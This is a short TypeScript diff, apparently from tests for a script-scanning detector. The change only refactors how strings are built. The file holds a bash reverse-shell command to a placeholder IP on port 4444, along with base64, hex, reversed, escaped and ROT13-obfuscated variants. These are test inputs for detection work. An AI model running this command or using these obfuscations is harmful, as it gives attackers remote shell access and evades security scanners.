@@ -8,8 +8,10 @@ const found = (script: string, language?: string): string[] =>
 const REVERSE = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'
 const BASE64 = Buffer.from(REVERSE).toString('base64')
 const HEX = Buffer.from(REVERSE).toString('hex')
-const reversed = [...REVERSE].toReversed().join('')
-const escaped = [...REVERSE].map((one) => String.raw`\x${one.codePointAt(0)?.toString(16)}`).join('')
+const reversed = Array.from(REVERSE).toReversed().join('')
+const escaped = Array.from(REVERSE)
+  .map((one) => String.raw`\x${one.codePointAt(0)?.toString(16)}`)
+  .join('')
 const rotated = REVERSE.replaceAll(/[a-z]/g, (one) =>
   String.fromCodePoint((((one.codePointAt(0) ?? 97) - 97 + 13) % 26) + 97),
 )
